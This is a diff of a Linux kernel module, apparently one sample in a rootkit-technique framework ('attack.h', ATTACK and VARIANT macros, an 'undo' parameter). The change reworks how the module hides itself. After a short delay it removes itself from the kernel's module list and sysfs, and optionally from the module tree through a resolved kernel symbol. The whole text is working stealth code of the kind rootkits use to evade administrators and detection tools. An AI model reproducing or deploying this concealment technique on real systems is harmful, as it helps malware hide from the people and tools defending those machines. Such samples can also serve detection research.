@@ -7,10 +7,9 @@
  */
 #include "attack.h"
 
-#include <linux/rbtree_latch.h>
+#include <linux/workqueue.h>
 
 VARIANT("list");
-KERNEL_SYMBOL(mod_tree);
 KERNEL_SYMBOL(mod_tree_remove);
 KERNEL_SYMBOL(modules);
 
@@ -25,22 +24,29 @@ static int undo(const char *value, const struct kernel_param *parameter)
 static const struct kernel_param_ops undo_operations = {.set = undo};
 module_param_cb(undo, &undo_operations, NULL, 0200);
 
+/* Once it is loaded: the loader itself still goes by these records. */
+static void hide(struct work_struct *work)
+{
+	list_del_init(&THIS_MODULE->list);
+	if (HOW("list"))
+		return;
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+	if (HOW("everywhere"))
+		((void (*)(struct module *))mod_tree_remove_at)(THIS_MODULE);
+}
+static DECLARE_DELAYED_WORK(work, hide);
+
 static int __init start(void)
 {
 	if (HOW("everywhere") && !mod_tree_remove_at)
 		return -ENOENT;
-	list_del_init(&THIS_MODULE->list);
-	if (HOW("list"))
-		return 0;
-	kobject_del(&THIS_MODULE->mkobj.kobj);
-	list_del_init(&THIS_MODULE->mkobj.kobj.entry);
-	if (HOW("everywhere"))
-		((void (*)(struct module *))mod_tree_remove_at)(THIS_MODULE);
+	schedule_delayed_work(&work, HZ / 4);
 	return 0;
 }
 
 static void __exit stop(void)
 {
+	cancel_delayed_work_sync(&work);
 }
 
 ATTACK(start, stop);
